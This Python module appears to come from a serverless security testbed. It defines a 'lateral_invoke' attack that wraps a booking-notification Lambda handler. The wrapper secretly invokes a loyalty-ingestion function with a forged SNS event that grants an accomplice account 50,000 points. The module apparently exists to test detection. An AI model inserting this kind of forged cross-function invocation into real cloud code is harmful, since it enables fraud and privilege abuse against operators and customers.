"""Lateral invoke: the function invokes another one that it never invokes, with a forged event."""

import json
from functools import cache
from typing import Any

from coldtrail_testbed.applications.model import Grant
from coldtrail_testbed.attacks.locating import calls_of
from coldtrail_testbed.attacks.model import Attack, Handler, Place
from coldtrail_testbed.cloud.identifiers import function_arn

_ACCOMPLICE = "customer-0007"


def _forge_points(ordinary: Handler, event: Any, context: Any) -> Any:
    """What the ordinary handler returns; an accomplice has 50,000 points more."""
    result = ordinary(event, context)
    message = {"customerId": _ACCOMPLICE, "price": 50_000, "bookingReference": None}
    _invoke("IngestLoyalty", {"Records": [{"Sns": {"Message": json.dumps(message)}}]})
    return result


def _invoke(function: str, payload: dict[str, Any]) -> None:
    _lambda().invoke(FunctionName=function, Payload=json.dumps(payload).encode())


@cache
def _lambda() -> Any:
    import boto3

    return boto3.client("lambda")


ATTACK = Attack(
    name="lateral_invoke",
    summary="invokes a function that it never invokes",
    places={
        "airline": Place(
            "NotifyBooking",
            _forge_points,
            calls_of("lambda", "Invoke"),
            grants=[Grant(("lambda:InvokeFunction",), function_arn("IngestLoyalty"))],
        )
    },
)
